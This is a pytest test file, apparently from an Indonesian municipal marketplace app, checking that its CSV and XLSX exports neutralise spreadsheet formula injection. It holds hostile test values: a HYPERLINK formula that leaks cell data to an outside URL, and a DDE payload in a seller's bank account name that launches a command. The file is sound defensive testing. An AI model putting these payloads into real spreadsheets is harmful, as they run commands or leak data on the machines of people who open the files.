"""Spreadsheets Malpro writes cannot carry formulas (issue 14, formula injection): a text that
people typed and that starts with = + - @, a tab or a carriage return is neutralised in CSV (a
leading single quote) and written as a plain string in XLSX; real numbers stay numbers."""

import csv
import io

import openpyxl
import pytest

from malpro.core import tabular
from malpro.core.tabular import CsvWriter, RowIssue, write_issues_csv

EVIL = '=HYPERLINK("http://x"&A1,"klik")'


def xlsx_cells(content: bytes, sheet: str | None = None):
    book = openpyxl.load_workbook(io.BytesIO(content))
    ws = book[sheet] if sheet else book.active
    return [list(row) for row in ws.iter_rows()]


def csv_rows(text: str):
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+62 812", "'+62 812"),
        ("-5", "'-5"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("Toko = murah", "Toko = murah"),
        ("Bakso Cak Agus", "Bakso Cak Agus"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(text, written):
    out = io.StringIO()
    CsvWriter(out).writerow([text])
    assert csv_rows(out.getvalue())[0] == [written]


def test_csv_and_xlsx_keep_real_numbers_numbers_even_when_negative():
    rows = [["refund", -15000, 2.5, "-15000"]]
    text = tabular.csv_text(["jenis", "jumlah", "rasio", "teks"], rows)
    assert csv_rows(text)[1] == ["refund", "-15000", "2.5", "'-15000"]
    cells = xlsx_cells(tabular.xlsx_bytes(["jenis", "jumlah", "rasio", "teks"], rows, title="x"))
    amount, ratio, as_text = cells[1][1], cells[1][2], cells[1][3]
    assert amount.value == -15000 and amount.data_type == "n"
    assert ratio.value == 2.5 and ratio.data_type == "n"
    assert as_text.value == "-15000" and as_text.data_type == "s"


def test_xlsx_text_is_never_a_formula_nor_an_error_and_control_characters_do_not_break_it():
    rows = [[EVIL, "#N/A", "Toko\x00Sari\x07", "=1+1"]]
    content = tabular.xlsx_bytes(["a", "b", "c", "d"], rows, title="Sheet [1]: a/b")
    cells = xlsx_cells(content)[1]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s"]
    assert [c.value for c in cells] == [EVIL, "#N/A", "TokoSari", "=1+1"]
    assert cells[0].quotePrefix  # Excel keeps it text when the cell is edited
    assert b"<f>" not in content and b"<f " not in content


def test_the_import_report_neutralises_headers_and_messages_from_the_file():
    out = io.StringIO()
    write_issues_csv([RowIssue(1, EVIL, "Kolom tidak dikenal", level="warning")], out)
    assert csv_rows(out.getvalue())[1][1] == "'" + EVIL


@pytest.mark.django_db
def test_an_officers_registry_export_holds_no_formula(web, officer):
    from malpro.umkm.tests.factories import make_business

    make_business(name=EVIL, agencies=("DISKOPINDAG",), capital=25_000_000)
    client = web(officer)
    response = client.get("/umkm/registri/", {"format": "xlsx"})
    header, row = xlsx_cells(response.content)[:2]
    names = [c.value for c in header]
    cell = row[names.index("nama_usaha")]
    assert cell.data_type != "f" and cell.data_type == "s" and cell.value == EVIL
    capital = row[names.index("modal_usaha")]
    assert capital.data_type == "n" and capital.value == 25_000_000

    response = client.get("/umkm/registri/", {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8")
    header, row = csv_rows(text)[:2]
    assert row[header.index("nama_usaha")] == "'" + EVIL
    assert row[header.index("modal_usaha")] == "25000000"
    assert ',"=HYPERLINK' not in text and ",\"'=HYPERLINK" in text  # the cell starts with '=


@pytest.mark.django_db
def test_the_payout_bank_file_neutralises_a_sellers_account_name(web, buyer, seller, city_admin):
    from malpro.payments import settlements
    from malpro.payments.models import BankAccount
    from malpro.payments.tests.helpers import completed_payable_order

    order = completed_payable_order(buyer, seller)
    account = BankAccount.objects.get(business=order.business)
    account.account_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    account.save()
    batch = settlements.batch_create(actor=None, provider="simulator")
    admin = web(city_admin)
    admin.post("/kota/pencairan/", {"action": "approve", "batch_id": batch.pk})
    text = admin.get(f"/kota/pencairan/{batch.pk}.csv").content.decode("utf-8-sig")
    header, line = csv_rows(text)[:2]
    assert line[header.index("nama_rekening")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert line[header.index("jumlah")] == str(batch.total)  # a number, as banks read it


@pytest.mark.django_db
def test_the_asn_report_writes_names_as_text(web, city_admin, asn_user):
    from malpro.asn.tests.factories import employee, policy

    policy(default=100_000)
    employee(user=asn_user, agency="DISKOMINFO", name="=2+5")
    response = web(city_admin).get("/asn/laporan/", {"format": "xlsx"})
    cells = [row for row in xlsx_cells(response.content, "ASN")[1:] if row[2].value == "=2+5"]
    assert cells and cells[0][2].data_type == "s"
    assert cells[0][3].data_type == "n"  # the obligation is a number


def test_templates_stay_readable(client):
    response = client.get("/umkm/registri/impor/templat.xlsx")
    cells = xlsx_cells(response.content)
    assert cells[0][0].value == "nama_usaha" and cells[1][2].value == "3573054107850002"
    assert cells[1][2].number_format == "@"
    text = client.get("/jual/produk/templat.csv").content.decode("utf-8-sig")
    assert csv_rows(text)[0][0] == "sku"


def test_every_spreadsheet_the_app_writes_goes_through_the_safe_writer():
    """csv.writer and openpyxl workbooks only in core/tabular.py (tests and fixtures aside)."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl\.Workbook\(|\bWorkbook\(")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and "e2e" not in path.parts
        and path.name not in ("tabular.py", "conftest.py")
        and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
